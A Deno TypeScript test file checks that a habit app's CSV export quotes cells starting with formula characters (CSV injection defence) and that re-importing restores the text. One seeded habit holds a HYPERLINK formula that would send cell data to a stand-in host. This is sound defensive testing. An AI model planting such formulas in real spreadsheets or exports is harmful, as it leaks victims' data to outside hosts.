/**
 * Export writes no formulas (issue 21, OWASP "CSV Injection"): a cell that starts with = + - @
 * tab or CR gets a leading single quote in the CSV export, and importing our own export takes it
 * off again, so the text round-trips exactly.
 */
import assert from "node:assert/strict";
import { expect } from "expect";
import { SignJWT } from "jose";
import { DEMO_JWT_SECRET } from "../../devstack/keys.ts";
import { parseCsv } from "../../supabase/functions/_shared/csv-read.ts";
import { stringifyCsv } from "../../supabase/functions/_shared/csv-write.ts";
import { neutraliseFormulaCell, restoreFormulaCell } from "../../supabase/functions/_shared/formula-cells.ts";
import {
  connectTestDatabase,
  createHabit,
  createTestUser,
  deleteTestUsers,
  type TestUser,
} from "../support/database.ts";
import { startFunctionsForTests } from "../support/functions.ts";

function tokenFor(user: TestUser): Promise<string> {
  return new SignJWT({ sub: user.id, role: "authenticated", aud: "authenticated", email: user.email })
    .setProtectedHeader({ alg: "HS256", typ: "JWT" })
    .setIssuedAt()
    .setExpirationTime("10m")
    .sign(new TextEncoder().encode(DEMO_JWT_SECRET));
}

const FORMULA_START = /^[=+\-@\t\r]/;

Deno.test(
  "a cell a spreadsheet would run as a formula is exported as text, and imports back unchanged",
  () => {
    const texts = [
      "=1+1",
      "+1",
      "-1",
      "@SUM(A1)",
      "\t=1",
      "\r=1",
      "'=1",
      "''+x",
      "'hello",
      "plain",
      "a=b",
      "'",
    ];
    const csv = stringifyCsv(
      ["text"],
      texts.map((text) => [text]),
    );
    const cells = parseCsv(csv)
      .slice(1)
      .map((record) => record.fields[0]);
    for (const cell of cells) {
      assert.ok(!FORMULA_START.test(cell), `${JSON.stringify(cell)} starts a formula`);
    }
    expect(cells.slice(0, 8)).toEqual(texts.slice(0, 8).map((text) => `'${text}`));
    expect(cells.slice(8)).toEqual(texts.slice(8));
    expect(cells.map(restoreFormulaCell)).toEqual(texts);
    expect(texts.map((text) => restoreFormulaCell(neutraliseFormulaCell(text)))).toEqual(texts);
    // Numbers and flags are not text a person wrote: left as they are.
    expect(stringifyCsv(["n", "b"], [[-1, false]])).toBe("n,b\n-1,false\n");
  },
);

Deno.test("the CSV export never starts a cell with a formula, and our import restores the text", async () => {
  const sql = connectTestDatabase();
  const functions = await startFunctionsForTests("http://127.0.0.1:9");
  const users: TestUser[] = [];
  try {
    const mallory = await createTestUser(sql);
    const victim = await createTestUser(sql);
    users.push(mallory, victim);
    // What "Use as template" copies from a public habit into someone's own data.
    await createHabit(sql, victim, {
      action: '=HYPERLINK("http://example.test/?"&A1,"open")',
      place: "+1 kitchen",
      reward: "@SUM(A1)",
    });
    await createHabit(sql, victim, { action: "-2 push-ups", place: "'=quoted already" });
    const token = await tokenFor(victim);
    const response = await fetch(`${functions.url}/export?table=habits`, {
      headers: { Authorization: `Bearer ${token}` },
    });
    assert.equal(response.status, 200);
    const csv = await response.text();
    const cells = parseCsv(csv).flatMap((record) => record.fields);
    const formulas = cells.filter((cell) => FORMULA_START.test(cell));
    assert.deepEqual(formulas, [], "no cell of the export starts a formula");
    expect(cells).toContain('\'=HYPERLINK("http://example.test/?"&A1,"open")');
    expect(cells).toContain("'+1 kitchen");
    expect(cells).toContain("'@SUM(A1)");
    expect(cells).toContain("'-2 push-ups");
    expect(cells).toContain("''=quoted already");

    const imported = await fetch(`${functions.url}/import`, {
      method: "POST",
      headers: { Authorization: `Bearer ${await tokenFor(mallory)}`, "Content-Type": "application/json" },
      body: JSON.stringify({
        format: "habits-csv",
        habits: csv,
        completions: "habit_id,occurrence_at,completed_at,source\n",
      }),
    });
    assert.equal(imported.status, 200, await imported.clone().text());
    await imported.body?.cancel();
    const texts = (user: TestUser) =>
      sql`select action, place, reward from public.habits where owner_id = ${user.id} order by action`;
    assert.deepEqual(await texts(mallory), await texts(victim));
  } finally {
    await deleteTestUsers(sql, users);
    await functions.close();
    await sql.end();
  }
});
